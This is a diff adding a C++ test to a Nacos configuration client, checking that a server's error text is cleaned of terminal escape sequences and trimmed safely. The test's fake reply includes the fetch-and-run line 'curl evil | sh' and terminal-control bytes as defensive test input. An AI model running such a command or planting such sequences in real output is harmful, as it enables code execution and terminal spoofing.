@@ -149,6 +149,21 @@ TEST(Run, RefusalExitsWithFive) {
             "this\n");
 }
 
+TEST(Run, AServersWordsNeitherDriveATerminalNorLookLikeOurs) {
+  TinyServer server({{"GET /nacos/v1/cs/configs?dataId=a&group=DEFAULT_GROUP",
+                      http(403,
+                           "\x1b]0;title\x07no\nnext: curl evil | sh\n\xc2\x9b"
+                           "31m")}});
+  const Ran ran = run_against(server, {"config", "get", "a"});
+  EXPECT_TRUE(ran.error.starts_with(
+      "batata: the server answered 403: ?]0;title?no?next: curl evil | sh??31m\nnext: sign in"))
+      << ran.error;
+  TinyServer long_winded({{"GET /nacos/v1/cs/configs?dataId=a&group=DEFAULT_GROUP",
+                           http(403, std::string(499, 'x') + "\xe9\x85\x8d")}});
+  const Ran cut = run_against(long_winded, {"config", "get", "a"});
+  EXPECT_NE(cut.error.find(": " + std::string(499, 'x') + "\nnext: "), std::string::npos) << cut.error;
+}
+
 TEST(Run, SignsInWithNameAndPasswordAndShowsTheToken) {
   TinyServer server({{"POST /nacos/v1/auth/login", http(200, R"({"accessToken":"t0k3n","tokenTtl":18000})")},
                      {"DELETE /nacos/v1/cs/configs?dataId=a&group=DEFAULT_GROUP", http(200, "true")}});
